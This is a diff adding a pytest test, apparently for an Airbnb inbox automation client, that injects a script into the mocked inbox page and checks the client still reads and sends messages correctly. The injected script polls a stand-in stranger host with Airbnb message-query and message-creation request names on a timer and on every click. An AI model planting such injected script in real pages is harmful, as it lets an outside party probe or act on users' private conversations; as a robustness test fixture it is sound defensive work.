@@ -449,3 +449,41 @@ def test_a_move_to_a_country_domain_is_no_fault_of_an_answer(
     assert airbnb.ask_thread(thread.id).messages
     with traveller.job("looking", 5):
         assert COUNTRY in traveller.tab.address()
+
+
+# A stranger's frame in Airbnb's page
+
+
+LIES = """<script>
+    const ask = (name, init) => fetch(
+        `STRANGER/api/v3/${name}/0a?operationName=${name}`, {mode: "no-cors", ...init});
+    const variables = encodeURIComponent('{"globalThreadId": "THREAD"}');
+    setInterval(() => ask("ViaductInboxData"), 20);
+    setInterval(() => ask(`ViaductGetThreadAndDataQuery/?variables=${variables}`), 20);
+    addEventListener(
+        "click", () => ask("CreateMessageViaductMutation", {method: "POST"}), true);
+</script>"""
+
+
+def test_what_a_frame_asks_a_stranger_is_no_question_of_airbnbs(
+    site: AirbnbSite, airbnb: Airbnb, bare: Bare, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    thread = site.add_thread("Maya")
+    site.guest_writes(thread, "Is parking free?")
+    bare.status, bare.page = "401 Unauthorized", "no"
+    lies = LIES.replace("STRANGER", bare.url).replace("THREAD", thread.id)
+    real = site._app.__class__.__call__
+
+    def lied(app: Any, environ: dict[str, Any], start: Callable[..., Any]) -> Any:
+        added = [lies.encode()] if environ["PATH_INFO"].startswith(INBOX) else []
+        return [*real(app, environ, start), *added]
+
+    monkeypatch.setattr(site._app.__class__, "__call__", lied)
+    reading = airbnb.open_thread(thread.id)
+    assert [message.body for message in reading.messages] == ["Is parking free?"]
+    airbnb.type_reply("Yes.")
+    outcome = airbnb.press_send()
+    assert (outcome.requested, outcome.refused) == (True, False)
+    assert [m.text for m in site.posted()] == ["Yes."]
+    asked = {path.split("/")[3] for path in bare.asked if path.startswith("/api/v3")}
+    assert len(asked) == 3, asked
